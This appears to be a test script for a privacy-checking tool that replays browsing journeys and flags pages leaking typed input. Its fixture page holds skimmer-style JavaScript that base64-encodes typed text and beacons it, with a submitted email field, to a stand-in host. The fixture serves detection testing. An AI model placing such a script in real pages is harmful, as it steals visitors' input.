#!/usr/bin/python3
"""site_journey.py TIPSTAFF: journeys through the program: each step's requests, the submit pass, the way out, pictures, and journeys that are wrong."""
from live_site import Site, check, expect, finish

site = Site({
    "/journey": b"<title>Report</title><input id=what><form id=f method=post action=/send><input name=mail><button>Send</button></form><button id=exit>Leave</button>"
                b"<script>const tell=(h,v)=>navigator.sendBeacon('http://127.0.0.2:PORT/'+h,v);what.onchange=()=>tell('changed',btoa(what.value));f.onsubmit=()=>tell('sent',f.mail.value);"
                b"exit.onclick=()=>location.replace('http://127.0.0.3:PORT/weather');addEventListener('pagehide',()=>tell('hidden','x'))</script>",
    "/clean": b"<title>Clean</title><h1>Opening hours</h1>",
})


def journey(name, *steps):
    with open(name, "w") as file:
        file.write(f"tipstaff site journey: 1\ntitle: A visit\nsteps:\n  - go: {site.address}/journey\n" + "".join(f"  - {each}\n" for each in steps))
    return "--journey", name


visit = journey("journey.yaml", "type: '#what'", "type: 'input[name=mail]'", "submit: '#f'", f"go: {site.address}/journey", "leave: '#exit'")
expect(1, ["HOLD: on /journey what was typed (#what) went to 127.0.0.2, in base64, in the body.",
           "(step 2: type into #what)",
           "on /journey (submitted) what was typed (input[name=mail]) went to 127.0.0.2",
           "step 4: submit #f: 2 requests to others",
           "1 requests to the site's own server were answered here"], *visit)
site.only_its_own_pages()
page = expect(1, "Where it fired: step 2: type into #what", *visit, "--format", "html", "--submit-for-real")
check(page.count("<image ") == 2 and page.count("<rect ") == 4 and "<script" not in page and " style=" not in page, "the page's pictures")
check([path for method, _, path, _ in site.log if method == "POST"] == ["/send"], f"what was submitted for real: {site.log}")

expect(10, "site journey, line 5, column 5: a step is one of: go, type,", *journey("bad.yaml", "clik: '#next'"))
expect(3, "Step 2 of the journey (line 5: click #next) could not be done: nothing fits ‘#next’.", *journey("lost.yaml", "{click: '#next', seconds: 1}"))
expect(2, "give addresses of pages or a journey", site.address + "/", "--journey", "lost.yaml")
expect(5, "nowhere.yaml", "--journey", "nowhere.yaml")
finish()
